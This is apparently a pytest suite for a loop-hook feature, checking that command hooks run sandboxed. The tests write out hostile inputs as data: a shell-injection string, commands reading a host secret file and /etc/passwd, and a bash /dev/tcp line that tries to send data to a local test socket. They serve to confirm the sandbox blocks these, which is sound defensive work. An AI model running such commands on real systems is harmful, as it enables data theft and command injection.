"""Loop hooks: functions and sandboxed commands at loop:start/loop:end/step:start/step:end, saved like step outputs."""

from __future__ import annotations

import json
import socket
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from langchain_core.tools import tool

from ai_utils import (
    Loop,
    LoopDefinitionError,
    LoopError,
    LoopResult,
    LoopRunner,
    command_hook,
    ctx,
    define_loop,
    function_hook,
    permission,
    tool_step,
)
from ai_utils.loops import LoopEvent

ALLOW = [permission("all", resource="tool", action="call", effect="allow", match={"tool": "*"})]


@tool
def note(text: str) -> str:
    """Write a note."""
    return f"noted: {text}"


def one_step(hooks: dict[str, Any], *, text: Any = "x") -> Loop:
    return define_loop(
        "hooked",
        start="write",
        steps={"write": tool_step("note", input={"text": text}, next="end")},
        permissions=ALLOW,
        hooks=hooks,  # type: ignore[arg-type]
        result={"data": ctx("write")},
    )


def test_function_hooks_run_in_order_and_their_results_are_read_like_step_outputs() -> None:
    seen: list[tuple[str, str | None, str | None]] = []

    def audit(event: LoopEvent) -> dict[str, Any]:
        seen.append((event.type, event.get("step_key"), event.get("status")))
        assert event.loop == "hooked" and event.thread_id == "t" and event.run_id
        return {"at": event.type, "request_id": event.context["request"]["id"]}

    loop = one_step(
        {
            "loop:start": [function_hook(audit, save_as="audit.start")],
            "step:start": [audit],
            "step:end": [audit],
            "loop:end": [function_hook(audit, save_as="audit.end")],
        },
        text=ctx("audit.start.request_id"),
    )
    out = LoopRunner(loop, tools=[note]).invoke({"request": {"id": "R-9"}}, thread_id="t")
    assert isinstance(out, LoopResult)
    assert out.data == "noted: R-9"  # the loop:start hook's saved result fed the step
    assert seen == [
        ("loop:start", None, None),
        ("step:start", "write", None),
        ("step:end", "write", None),
        ("loop:end", None, "completed"),
    ]
    assert out.context["audit"] == {
        "start": {"at": "loop:start", "request_id": "R-9"},
        "end": {"at": "loop:end", "request_id": "R-9"},
    }


async def test_hooks_run_in_async_runs_too() -> None:
    loop = one_step({"loop:start": [function_hook(lambda e: {"ok": True}, save_as="flag")]}, text="a")
    out = await LoopRunner(loop, tools=[note]).ainvoke({"request": {}}, thread_id="a")
    assert isinstance(out, LoopResult) and out.context["flag"] == {"ok": True}


def test_a_hook_that_raises_fails_the_run_naming_the_hook_and_loop_end_hears_it() -> None:
    ends: list[str | None] = []

    def broken(event: LoopEvent) -> None:
        raise RuntimeError("token sk-should-not-leak")

    loop = one_step({"step:end": [broken], "loop:end": [lambda e: ends.append(e.get("status"))]})
    runner = LoopRunner(loop, tools=[note])
    with pytest.raises(LoopError, match="broken") as caught:
        runner.invoke({"request": {}}, thread_id="f")
    assert "'step:end'" in str(caught.value) and caught.value.step_key == "write"
    assert "sk-should-not-leak" not in str(caught.value)  # the exception type only, never its text
    assert runner.state("f") == "failed" and ends == ["failed"]
    assert runner.runs()[0].state == "failed" and runner.runs()[0].error == "LoopError"


def test_a_function_hook_past_its_timeout_fails_the_run() -> None:
    release = threading.Event()

    def slow(event: LoopEvent) -> None:
        release.wait(30)

    runner = LoopRunner(one_step({"loop:start": [function_hook(slow, timeout=0.2)]}), tools=[note])
    try:
        with pytest.raises(LoopError, match=r"slow.*timeout of 0\.2 s"):
            runner.invoke({"request": {}}, thread_id="slow")
    finally:
        release.set()
    assert runner.state("slow") == "failed"


def test_hooks_are_checked_when_the_loop_is_defined() -> None:
    with pytest.raises(LoopDefinitionError, match="Unknown hook event"):
        one_step({"loop:begin": [lambda e: None]})
    with pytest.raises(LoopDefinitionError, match="plain \\(sync\\) function"):

        async def later(event: LoopEvent) -> None: ...

        one_step({"loop:start": [later]})
    with pytest.raises(LoopDefinitionError, match="protected context root 'request'"):
        one_step({"loop:start": [function_hook(lambda e: {}, save_as="request.x")]})
    with pytest.raises(LoopDefinitionError, match="no shell string"):
        command_hook("echo hi")  # type: ignore[arg-type]
    with pytest.raises(LoopDefinitionError, match="program is always a literal"):
        command_hook([ctx("request.program"), "x"])
    with pytest.raises(LoopDefinitionError, match="timeout"):
        command_hook(["true"], timeout=0)


def test_a_loop_with_command_hooks_round_trips_through_json_and_function_hooks_have_no_json_form() -> None:
    loop = one_step({"loop:start": [command_hook(["echo", ctx("request.id")], save_as="audit.start", timeout=5)]})
    data = loop.to_json()
    assert data["hooks"] == {
        "loop:start": [
            {"type": "command", "argv": ["echo", {"$context": "request.id"}], "save_as": "audit.start", "timeout": 5}
        ]
    }
    assert Loop.from_json(json.dumps(data)) == loop
    with pytest.raises(LoopDefinitionError, match="no JSON form"):
        one_step({"loop:end": [lambda e: None]}).to_json()
    bad = {**data, "hooks": {"loop:start": [{"type": "python", "code": "import os"}]}}
    with pytest.raises(LoopDefinitionError, match="only declare command hooks"):
        Loop.from_json(bad)


# --- command hooks: run confined --------------------------------------------------------------------------------


def test_a_command_hooks_output_is_saved_and_a_context_value_is_one_argument_never_shell_text() -> None:
    hostile = "x; echo INJECTED $(id)"
    loop = one_step(
        {"loop:start": [command_hook(["echo", "started", ctx("request.id")], save_as="audit.start")]},
        text=ctx("audit.start.stdout"),
    )
    out = LoopRunner(loop, tools=[note]).invoke({"request": {"id": hostile}}, thread_id="c")
    assert isinstance(out, LoopResult)
    assert out.context["audit"]["start"] == {"stdout": f"started {hostile}", "exit_code": 0, "json": None}
    assert out.data == f"noted: started {hostile}"  # printed literally: no shell ran the value


def test_a_command_hook_gets_the_event_on_stdin_and_json_output_is_parsed() -> None:
    loop = one_step({"step:end": [command_hook(["cat"], save_as="echoed")]})
    out = LoopRunner(loop, tools=[note]).invoke({"request": {"secret": "s3cr3t"}}, thread_id="e")
    assert isinstance(out, LoopResult)
    event = out.context["echoed"]["json"]
    assert event["type"] == "step:end" and event["step_key"] == "write" and event["loop"] == "hooked"
    assert event["thread_id"] == "e" and event["run_id"] == out.run_id
    assert "s3cr3t" not in out.context["echoed"]["stdout"]  # the context is never on stdin


def test_a_command_hook_cannot_read_host_files_outside_its_workspace(tmp_path: Path) -> None:
    secret = tmp_path / "host-secret.txt"
    secret.write_text("TOP-SECRET")
    # The attack: a hook (e.g. from a JSON definition a client sent) reads a host file and saves it for later steps.
    loop = one_step(
        {"loop:start": [command_hook(["cat", str(secret)], save_as="loot")]},
        text=ctx("loot.stdout"),
    )
    runner = LoopRunner(loop, tools=[note])
    with pytest.raises(LoopError, match=r"command_hook\(\['cat'.*exited with code 1") as caught:
        runner.invoke({"request": {}}, thread_id="r")
    assert "TOP-SECRET" not in str(caught.value)
    # Nor the host's system configuration: /etc holds only what programs need to start.
    passwd = one_step({"loop:start": [command_hook(["cat", "/etc/passwd"], save_as="loot")]})
    with pytest.raises(LoopError, match="exited with code 1"):
        LoopRunner(passwd, tools=[note]).invoke({"request": {}}, thread_id="p")
    # Its own workspace works: it is the working directory, empty and writable.
    works = one_step({"loop:start": [command_hook(["sh", "-c", "echo ok > f && cat f && pwd"], save_as="w")]})
    out = LoopRunner(works, tools=[note]).invoke({"request": {}}, thread_id="w")
    assert isinstance(out, LoopResult) and out.context["w"]["stdout"] == "ok\n/workspace"


def test_a_command_hook_cannot_reach_the_network() -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    port = server.getsockname()[1]
    # The attack: exfiltrate through a host service the hook should never see (here one on the host's loopback).
    script = f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo leak >&3"
    loop = one_step({"loop:start": [command_hook(["bash", "-c", script], save_as="x")]})
    try:
        with pytest.raises(LoopError, match="exited with code"):
            LoopRunner(loop, tools=[note]).invoke({"request": {}}, thread_id="n")
        with pytest.raises(TimeoutError):
            server.accept()  # nothing ever connected
    finally:
        server.close()
    interfaces = one_step({"loop:start": [command_hook(["cat", "/proc/net/dev"], save_as="net")]})
    out = LoopRunner(interfaces, tools=[note]).invoke({"request": {}}, thread_id="i")
    assert isinstance(out, LoopResult)
    names = [line.split(":")[0].strip() for line in out.context["net"]["stdout"].splitlines()[2:]]
    assert names == ["lo"]  # a network namespace of its own: loopback only


async def test_a_command_hook_past_its_timeout_is_killed_and_fails_the_run() -> None:
    loop = one_step({"step:start": [command_hook(["sh", "-c", "sleep 30 & sleep 30"], timeout=1)]})
    runner = LoopRunner(loop, tools=[note])
    started = time.monotonic()
    with pytest.raises(LoopError, match=r"command_hook\(\['sh'.*'step:start'.*timeout of 1 s and was killed"):
        await runner.ainvoke({"request": {}}, thread_id="k")
    assert time.monotonic() - started < 25
    assert await runner.astate("k") == "failed"
